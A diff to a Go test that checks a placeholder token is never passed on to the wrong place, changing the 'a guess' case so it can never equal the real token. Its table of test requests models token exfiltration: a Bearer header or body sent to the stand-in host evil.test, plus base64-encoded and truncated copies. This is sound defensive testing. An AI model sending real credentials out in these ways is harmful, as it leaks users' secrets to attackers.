@@ -145,6 +145,10 @@ func TestAPlaceholderGoesNowhereElse(t *testing.T) {
 	trailed.Trailer = http.Header{"X-After": {tok}}
 	named := request("POST", at, "text")
 	named.Trailer = http.Header{http.CanonicalHeaderKey(tok): nil}
+	guess := tok[:len(tok)-1] + "A"
+	if guess == tok {
+		guess = tok[:len(tok)-1] + "B"
+	}
 	for about, r := range map[string]*http.Request{
 		"another host":               request("GET", "https://evil.test/", "", "Authorization", "Bearer "+tok),
 		"a host below":               request("GET", "https://x.api.example.com/", "", "X-Key", tok),
@@ -167,7 +171,7 @@ func TestAPlaceholderGoesNowhereElse(t *testing.T) {
 		"a body":                     request("POST", at, "text "+tok),
 		"a body, another host":       request("POST", "https://evil.test/", body),
 		"another session's":          request("GET", at, "", "X-Key", other),
-		"a guess":                    request("GET", at, "", "X-Key", tok[:len(tok)-1]+"A"),
+		"a guess":                    request("GET", at, "", "X-Key", guess),
 		"a part":                     request("GET", at, "", "X-Key", tok[:len(tok)-1]),
 		"base64 in a header":         request("GET", at, "", "X-Key", b64(tok)),
 		"base64 in another scheme":   request("GET", at, "", "Authorization", "Bearer "+b64("a"+tok)),
